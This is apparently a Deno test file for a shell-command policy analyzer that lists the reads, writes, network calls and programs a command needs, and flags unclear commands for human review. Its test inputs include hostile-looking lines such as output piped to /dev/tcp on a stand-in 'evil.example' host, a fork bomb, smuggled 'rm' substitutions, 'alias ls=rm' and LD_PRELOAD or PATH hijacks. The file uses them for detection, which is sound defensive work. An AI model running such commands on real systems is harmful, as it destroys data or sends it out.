import assert from "node:assert/strict";
import { join } from "node:path";
import { formatNeed, type Need } from "../../core/domain/need.ts";
import { type ShellHost, shellNeeds } from "../../core/policy/shell_command.ts";

const PROGRAMS = new Set([
  "git",
  "ls",
  "cat",
  "echo",
  "grep",
  "sh",
  "node",
  "npm",
  "make",
  "find",
  "sort",
  "true",
]);

const host: ShellHost = {
  resolve: (path) =>
    Promise.resolve(
      path === "~" ? "/home/u" : path.startsWith("~/") ? `/home/u${path.slice(1)}` : join("/", path),
    ),
  findExecutable: (name, cwd) =>
    Promise.resolve(
      name.includes("/") ? join(cwd, name) : PROGRAMS.has(name) ? `/usr/bin/${name}` : undefined,
    ),
  isWritable: (path) => path.startsWith("/ws/"),
};

const needsOf = (command: string) => shellNeeds(command, "/ws", host);
const text = (needs: readonly Need[]) => needs.map((need) => (need.opaque ? "? " : "") + formatNeed(need));

const LITERAL: readonly (readonly [command: string, ...needs: string[]])[] = [
  ["git log --oneline", "run=git log --oneline"],
  ["git log --oneline\n", "run=git log --oneline"],
  ["git log && npm test", "run=git log", "run=npm test"],
  ["git log || npm test; ls", "run=git log", "run=npm test", "run=ls"],
  ["git log | grep x | sort -u", "run=git log", "run=grep x", "run=sort -u"],
  ["git log |& grep x", "run=git log", "run=grep x"],
  ["git status # why", "run=git status"],
  ["! grep -q x a.txt", "run=grep -q x a.txt"],
  [`echo "a b" 'c d' e\\ f`, "run=echo 'a b' 'c d' 'e f'"],
  [`echo '$HOME' \\$HOME`, "run=echo '$HOME' '$HOME'"],
  ["ls *.ts src/[ab]?.ts", "run=ls *.ts src/[ab]?.ts"],
  ["gi\\\nt log", "run=git log"],
  [`g"i"t 'log'`, "run=git log"],
  ["make CC=gcc all", "run=make CC=gcc all"],
  ["ls > out.txt", "write=/ws/out.txt", "run=ls"],
  ["ls >> sub/out.txt 2>&1", "write=/ws/sub/out.txt", "run=ls"],
  ["ls >| out", "write=/ws/out", "run=ls"],
  ["ls &> both", "write=/ws/both", "run=ls"],
  ["sort < in.txt > /etc/out", "read=/ws/in.txt", "write=/etc/out", "run=sort"],
  ["ls <> rw", "write=/ws/rw", "read=/ws/rw", "run=ls"],
  ["ls > ~/x", "write=/home/u/x", "run=ls"],
  [`ls > "~/x"`, "write=/ws/~/x", "run=ls"],
  ["ls > /dev/null 2>/dev/null", "run=ls"],
  ["ls > /dev/../dev/null", "run=ls"],
  ["ls 2>&- >&2", "run=ls"],
  ["> only.txt", "write=/ws/only.txt"],
  ["cat > /dev/tcp/Evil.example/80", "net=evil.example:80", "run=cat"],
  ["cat <<'EOF'\n$(rm -rf x)\nEOF", "run=cat"],
  ["cat <<EOF\nplain\nEOF", "run=cat"],
  ["cat <<< 'hi there'", "run=cat"],
  ["sh ./check.sh", "run=sh ./check.sh"],
  ["sh -eu ./check.sh a -c b", "run=sh -eu ./check.sh a -c b"],
  ["find . -name '*.ts'", "run=find . -name '*.ts'"],
  ["cd sub && ls > a", "read=/ws/sub", "write=/ws/sub/a", "run=ls"],
  ["cd sub; ls > a", "read=/ws/sub", "write=/ws/sub/a", "write=/ws/a", "run=ls"],
  ["cd sub || ls > a", "read=/ws/sub", "write=/ws/a", "run=ls"],
  ["cd sub | ls; ls > a", "read=/ws/sub", "run=ls", "write=/ws/a"],
  ["cd && ls > a", "read=/home/u", "write=/home/u/a", "run=ls"],
  ["cd /a && cd b && ls > c", "read=/a", "read=/a/b", "write=/a/b/c", "run=ls"],
  ["unknown-program x", "run=unknown-program x"],
  ["echo $HOME", "run=echo $HOME"],
  ["echo $(rm x)", "run=rm x", "run=echo $(rm x)"],
  ["echo `rm x`", "run=rm x", "run=echo `rm x`"],
  ['echo "a $(rm x)"', "run=rm x", 'run=echo "a $(rm x)"'],
  ["cat <(ls)", "run=ls", "run=cat <(ls)"],
  ["cat <<EOF\n$(rm x) $HOME\nEOF", "run=rm x", "run=cat"],
  ['cat <<< "$x $(ls)"', "run=ls", "run=cat"],
  ["f() { rm x; }; f", "run=rm x"],
  ["f() { rm x; }", "run=rm x"],
  ['f() { rm "$1"; }; f a; f b', "run=rm a", "run=rm b"],
  ["ls() { rm x; }; ls; command ls", "run=rm x", "run=ls"],
  ["false && rm() { :; }; rm y", "run=false", "run=rm y"],
  ["for a in b c; do rm $a; done", "run=rm b", "run=rm c"],
  ['for a in *.o; do rm "$a"; done', 'run=rm "$a"'],
  ["for ((i=0; i<3; i++)); do rm $i; done", "run=rm $i"],
  ["while true; do rm x; done", "run=true", "run=rm x"],
  ["until rm x; do ls; done", "run=rm x", "run=ls"],
  [
    "if true; then rm x; elif ls; then cat y; else rm z; fi",
    "run=true",
    "run=rm x",
    "run=ls",
    "run=cat y",
    "run=rm z",
  ],
  ["case $(ls) in $(cat p)) rm y;; *) rm z;; esac", "run=ls", "run=cat p", "run=rm y", "run=rm z"],
  ["select x in a; do rm b; done", "run=rm b"],
  ["(cd sub && rm x > a); ls > b", "read=/ws/sub", "write=/ws/sub/a", "run=rm x", "write=/ws/b", "run=ls"],
  ["{ rm x; ls; } > all 2>&1", "write=/ws/all", "run=rm x", "run=ls"],
  ["[[ -f $(ls) && $x == y ]]", "run=ls"],
  ["ls & rm x & wait", "run=ls", "run=rm x"],
  ["coproc rm x", "run=rm x"],
  ["time -p ls", "run=ls"],
  ["FOO=1 NODE_ENV=test CI=1 RUST_LOG=debug ls", "run=ls"],
  ["FOO=$(rm x)", "run=rm x"],
  ["export FOO=1; FOO=2; ls", "run=ls"],
  ["echo ${x:-$(rm x)} ${y//$(ls)/}", "run=rm x", "run=ls", "run=echo ${x:-$(rm x)} ${y//$(ls)/}"],
  ["git {push,-f}", "run=git push -f"],
  ["$'ls' $'a b'", "run=ls 'a b'"],
  ["ls {fd}> x", "write=/ws/x", "run=ls"],
  ["D=src; cd $D && ls > a", "read=/ws/src", "write=/ws/src/a", "run=ls"],
  ["D=a; D=b ls > $D", "write=/ws/a", "run=ls"],
  ['x=(a b); rm "${x[@]}"', "run=rm a b"],
  ['set -euo pipefail; set -- a b; rm "$@"; shift; ls $1', "run=rm a b", "run=ls b"],
  ["cd a && cd - && ls > x", "read=/ws/a", "read=/ws", "write=/ws/x", "run=ls"],
  ["pushd a && ls > x && popd && ls > y", "read=/ws/a", "write=/ws/a/x", "run=ls", "write=/ws/y"],
  ["cd sub || exit 1; ls > a", "read=/ws/sub", "write=/ws/sub/a", "run=ls"],
  ["i=0; i=$((i+1)); echo $i", "run=echo $i"],
  ["n=$(wc -l < f); echo $((n+1))", "read=/ws/f", "run=wc -l", "run=echo $((n+1))"],
  ['while IFS= read -r l; do echo "$l"; done < f', "read=/ws/f", 'run=echo "$l"'],
  ["exec > log; ls", "write=/ws/log", "run=ls"],
  [
    "git commit -m \"$(cat <<'EOF'\nhi\nEOF\n)\"",
    "run=cat",
    "run=git commit -m \"$(cat <<'EOF'\nhi\nEOF\n)\"",
  ],
  ["python3 - <<'EOF'\nprint(1)\nEOF", "run=python3 -"],
  ["V=$(git rev-parse HEAD); echo $V", "run=git rev-parse HEAD", "run=echo $V"],
  ["[ -f x ] && cat x || true", "run=[ -f x ]", "run=cat x", "run=true"],
  ["exit 0", "run=bash -c 'exit 0'"],
  ["while :; do :; done", "run=bash -c 'while :; do :; done'"],
];

for (const [command, ...expected] of LITERAL) {
  Deno.test(`shellNeeds() states what ${JSON.stringify(command)} does`, async () => {
    assert.deepEqual(text(await needsOf(command)), expected);
  });
}

const OPAQUE: readonly (readonly [command: string, why: RegExp])[] = [
  ["", /no command/],
  ["$x a", /which command/],
  ["$(cat f)", /which command/],
  ["l*", /which command/],
  ['""', /which command/],
  ["${x:-ls}", /which command/],
  ["ls > $OUT", /which file/],
  ["ls > *.txt", /which file/],
  ["for f in a*; do ls > $f; done", /which file/],
  ["cat > /dev/tcp/$h/80", /which file/],
  ["x='a[$(rm y)]'; echo $((x))", /more than a number/],
  ["((a[$(rm x)]))", /more than a number|another command/],
  ["read x; [[ $x -eq 1 ]]", /more than a number/],
  ["read x; echo ${y:x}", /more than a number/],
  ["read i; a[i]=1", /more than a number/],
  ["[ -v 'a[$(rm x)]' ]", /computed name/],
  ["[ $x ]", /computed name/],
  ['test "$x" "$y"', /computed name/],
  ["echo ${!x}", /another names/],
  ["echo ${x@P}", /runs what a variable holds/],
  ['printf -v "$x" a', /not known/],
  ['read "$x"', /not known/],
  ["declare -i x=$y", /what setting/],
  ['export "$x"', /not known/],
  ["export -f f", /other shells/],
  ["PATH=/tmp ls", /sets PATH/],
  ["PATH=/tmp", /sets PATH/],
  ["export PATH=/tmp", /sets PATH/],
  ["read PATH", /sets PATH/],
  ["for PATH in /tmp; do ls; done", /sets PATH/],
  ["LD_PRELOAD=x ls", /sets LD_PRELOAD/],
  ["GIT_SSH_COMMAND=x git fetch", /sets GIT_SSH_COMMAND/],
  ["BASH_ENV=x ls", /sets BASH_ENV/],
  ["NODE_OPTIONS=-rx npm test", /sets NODE_OPTIONS/],
  ["PYTHONPATH=x python3 y", /sets PYTHONPATH/],
  ["IFS=x; a=bxc; $a", /which command/],
  ["echo @(a|b)", /differently/],
  ['echo $"a"', /differently/],
  ["cat ${ ls; }", /differently/],
  ["f() { f; }; f", /calls itself/],
  [":(){ :|:& };:", /calls itself/],
  ["eval ls", /eval/],
  ["source x", /source/],
  [". ./x", /in the shell itself/],
  ["exec $x", /not known/],
  ["command $x", /not known/],
  ["trap 'rm x' EXIT", /trap/],
  ["alias ls=rm", /alias/],
  ["enable -f x y", /enable/],
  ["set -k; ls", /set: /],
  ["shopt -s expand_aliases", /shopt/],
  ["mapfile -C x a", /mapfile/],
  ['echo "open', /cannot be parsed/],
  ["ls &&", /cannot be parsed/],
  ["ls ; ; ls", /cannot be parsed/],
  ["ls )", /cannot be parsed/],
  ["echo $(ls &&)", /cannot be parsed/],
  ["cat <<EOF\nnever", /closed|parsed/],
  ["ls\u0007", /control/],
  ["ls\r", /control/],
  ["cd $x", /where cd leads/],
  ["cd -", /where cd leads/],
  ["cd a b", /where cd leads/],
  ["cd */", /where cd leads/],
  ["popd $x", /where popd leads/],
  [`${"echo $(".repeat(5000)}ls${")".repeat(5000)}`, /cannot be parsed|too deeply/],
  ["f() { g; }; g() { f; }; f;\n".repeat(200), /too many|calls itself/],
];

for (const [command, why] of OPAQUE) {
  Deno.test(`shellNeeds() leaves ${JSON.stringify(command)} to a person`, async () => {
    const needs = await needsOf(command);
    const reasons = needs.filter((need) => need.opaque !== undefined).map((need) => need.opaque ?? "");
    assert.ok(reasons.some((reason) => why.test(reason)), `${JSON.stringify(needs)}`);
  });
}

const GIT: readonly (readonly [string, readonly string[]])[] = [
  ["git --no-pager log", ["run=git log"]],
  ["git -C sub push", ["run=git -C sub push", "run=git push"]],
  ["git --git-dir x --no-pager push -f", ["run=git --git-dir x --no-pager push -f", "run=git push -f"]],
  ["git --version", ["run=git --version"]],
  ["git log --output-indicator-new=x -- --output=y", ["run=git log --output-indicator-new=x -- --output=y"]],
  ["git rebase main", ["run=git rebase main"]],
  ["git grep -n x", ["run=git grep -n x"]],
];

for (const [command, needs] of GIT) {
  Deno.test(`shellNeeds() reads ${command} with and without what stands before git's command`, async () => {
    assert.deepEqual(text(await needsOf(command)), needs);
  });
}

Deno.test("shellNeeds() states the parts it understands beside the part it does not", async () => {
  assert.deepEqual(text(await needsOf("git log && sudo rm x && ls > a")), [
    "run=git log",
    "? run=sudo rm x",
    "run=rm x",
    "write=/ws/a",
    "run=ls",
  ]);
});

Deno.test("shellNeeds() gives the words before an unknown one, so that a denial of them holds", async () => {
  const [need] = await needsOf("git push $REMOTE main");
  assert.deepEqual(need?.argv, ["git", "push", "\0\0", "main"]);
  assert.equal(need?.target, "git push $REMOTE main");
});

Deno.test("shellNeeds() does not follow relative paths from a folder that is not known", async () => {
  const needs = await needsOf("cd $X && ls > a && ./run && ls > /abs");
  assert.deepEqual(text(needs), ["? run=cd $X", "? run=ls > a", "run=ls", "? run=./run", "write=/abs"]);
});

Deno.test("shellNeeds() marks executables in writable folders, also behind a link outside of them", async () => {
  const linked: ShellHost = {
    ...host,
    findExecutable: () => Promise.resolve("/usr/local/bin/tool"),
    resolve: () => Promise.resolve("/ws/tool.js"),
  };
  const [behind] = await shellNeeds("tool", "/ws", linked);
  assert.equal(behind?.inWritableFolder, true);
  const [own] = await needsOf("./check.sh");
  assert.deepEqual([own?.executable, own?.inWritableFolder], ["/ws/check.sh", true]);
  const [system] = await needsOf("git log");
  assert.deepEqual([system?.executable, system?.inWritableFolder], ["/usr/bin/git", false]);
});

Deno.test("shellNeeds() shows a here-document whole when part of it is not known", async () => {
  const command = "cat <<EOF > $a\n$(rm x)\nEOF";
  const [, need] = await needsOf(command);
  assert.equal(need?.target, command);
});
